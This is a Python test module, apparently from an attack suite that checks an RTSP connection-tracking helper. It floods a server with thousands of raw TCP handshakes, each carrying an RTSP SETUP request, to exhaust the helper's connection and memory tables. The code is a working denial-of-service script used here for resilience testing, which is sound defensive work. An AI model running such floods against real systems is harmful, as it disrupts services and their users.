"""As many connections of one host as there are ports, each with one SETUP of a port of its own.

It hopes to fill every table of the helper: connections, ways, its memory.
"""

from __future__ import annotations

import time

from tests.attacks import wire
from tests.attacks.packet import ACK, MODULUS, PSH, SYN, End, setup, tcp


def attack(
    wire_: wire.Wire,
    source: str = "",
    server: str = "172.26.83.66",
    connections: int = 8192,
    first: int = 10000,
    port: int = 32000,
    rate: float = 4000.0,
    stay: float = 0.5,
) -> int:
    target = End(server, 554)
    clock, sent, shaken = time.monotonic(), 0, 0
    for start in range(0, connections, 128):
        batch = range(start, min(start + 128, connections))
        for number in batch:
            wire_.send(tcp(End(source, first + number), target, seq=7000, flags=SYN))
        waiting = len(batch)
        for one in wire_.segments(1.0):
            if one.source != target or not one.flags & SYN:
                continue
            ack = (one.seq + 1) % MODULUS
            asked = setup(port + (one.target.port - first) % 20000)
            wire_.send(tcp(one.target, target, seq=7001, ack=ack, flags=ACK | PSH, data=asked))
            shaken += 1
            waiting -= 1
            if not waiting:
                break
        sent += 2 * len(batch)
        if (ahead := clock + sent / rate - time.monotonic()) > 0:
            time.sleep(ahead)
    time.sleep(stay)
    return shaken


if __name__ == "__main__":
    wire.run(attack)
